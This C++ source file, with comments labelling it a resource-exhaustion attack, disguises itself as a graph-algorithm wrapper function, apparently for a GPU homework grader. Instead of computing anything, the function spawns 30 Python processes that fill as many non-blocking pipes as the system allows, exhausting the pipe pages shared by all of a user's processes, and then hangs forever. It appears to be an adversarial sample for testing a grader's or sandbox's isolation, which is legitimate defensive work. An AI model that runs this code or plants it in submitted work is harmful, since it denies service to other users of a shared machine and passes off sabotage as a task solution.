// attack: exhaust
// root: resources
// what: starts programs that fill as many pipes as they can, because the system gives all processes of
//   a user a common number of pages for them
// list: 9 30
#include <spawn.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  char program[] = "/usr/bin/python3", flag[] = "-c";
  char text[] =
      "import os, time\n"
      "try:\n"
      "  while True: os.write((os.set_blocking((p := os.pipe())[1], False), p[1])[1], b'x' * 65536)\n"
      "except OSError: time.sleep(600)";
  char* words[] = {program, flag, text, nullptr};
  char* nothing[] = {nullptr};
  for (int child = 0; child < 30; child++) {
    pid_t pid;
    posix_spawn(&pid, program, nullptr, nullptr, words, nothing);
  }
  for (;;) pause();
}
